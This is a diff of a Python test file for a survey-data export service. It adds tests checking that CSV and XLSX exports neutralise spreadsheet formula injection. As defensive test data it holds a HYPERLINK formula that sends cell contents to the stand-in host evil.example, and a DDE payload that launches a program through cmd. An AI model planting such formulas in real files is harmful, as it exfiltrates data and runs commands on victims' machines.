@@ -229,7 +229,7 @@ def test_an_admin_who_asks_gets_personal_fields_and_it_is_audited(client, kap, e
     response = client.get(f"/surveys/{kap.id}/export/personal", params={"format": "csv"})
     assert response.status_code == 200
     rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
-    assert rows[0]["phone"] == "+509 3700 0001"
+    assert rows[0]["phone"] == "'+509 3700 0001"  # neutralised: "+..." would be a formula in a spreadsheet
     plain = client.get(f"/surveys/{kap.id}/export/download", params={"format": "csv"})
     assert "phone" not in plain.content.decode("utf-8-sig").splitlines()[0].split(",")
     with Session(engine) as s:
@@ -265,3 +265,56 @@ def test_it_exports_an_empty_survey(client, engine, personas, tmp_path):
     for fmt in ("csv", "xlsx", "sav", "dta"):
         response = client.get(f"/api/v1/surveys/{made.id}/export", params={"format": fmt}, headers=headers)
         assert response.status_code == 200, (fmt, response.text[:200])
+
+
+# --- formula injection (OWASP) --------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+@pytest.fixture
+def hostile(engine, personas):
+    """One interview whose text answers would run as formulas in a spreadsheet."""
+    made = make_survey(engine, spec=spec_with_phone(), actor=personas["leo"])
+    with Session(engine, expire_on_commit=False) as session:
+        survey = session.get(Survey, made.id)
+        wave = service.get_wave(session=session, survey=survey, wave="baseline")
+        service.submit(session=session, survey=survey, wave=wave, enumerator=personas["eddy"], source="api",
+                       payload=make_payload(answers=make_answers(comments=FORMULA, phone="@SUM(1+1)*cmd|' /C calc'!A0"),
+                                            region="-Nord"))
+        session.commit()
+    return made
+
+
+def test_csv_neutralises_formulas_and_keeps_numbers(engine, hostile):
+    row = csv_of(engine, hostile, include_personal=True)[0]
+    assert row["comments"] == "'" + FORMULA
+    assert row["phone"] == "'@SUM(1+1)*cmd|' /C calc'!A0" and row["region"] == "'-Nord"
+    assert row["age"] == "34" and row["weight"] == "1.5"
+
+
+def test_xlsx_neutralises_formulas_as_text_cells(engine, hostile, tmp_path):
+    path = file_of(engine, hostile, tmp_path, format="xlsx", include_personal=True)
+    sheet = openpyxl.load_workbook(path)["responses"]
+    header = [c.value for c in sheet[1]]
+    cells = dict(zip(header, sheet[2]))
+    assert cells["comments"].data_type == "s" and cells["comments"].value == "'" + FORMULA
+    assert cells["phone"].value.startswith("'@") and cells["region"].value == "'-Nord"
+    assert cells["age"].data_type == "n" and cells["age"].value == 34
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+
+
+@pytest.mark.parametrize("fmt, reader", [("sav", pyreadstat.read_sav), ("dta", pyreadstat.read_dta)])
+def test_spss_and_stata_keep_the_raw_text(engine, hostile, tmp_path, fmt, reader):
+    df, _ = reader(str(file_of(engine, hostile, tmp_path, format=fmt, include_personal=True)))
+    assert df.iloc[0]["comments"] == FORMULA and df.iloc[0]["region"] == "-Nord"
+
+
+def test_a_neutralised_csv_imports_back_as_typed(engine, hostile):
+    columns, rows = rows_of(engine, hostile, include_personal=True)
+    data = b"".join(exports.write_csv(rows, columns))
+    with Session(engine, expire_on_commit=False) as session:
+        survey = session.get(Survey, hostile.id)
+        report = import_jobs.check_file(session=session, survey=survey, source=data, filename="export.csv",
+                                        mapping={"uuid": "uuid", "start": "started_at", "end": "ended_at"})
+    assert (report.rows, report.already, report.new, report.bad) == (1, 1, 0, 0), report.problems
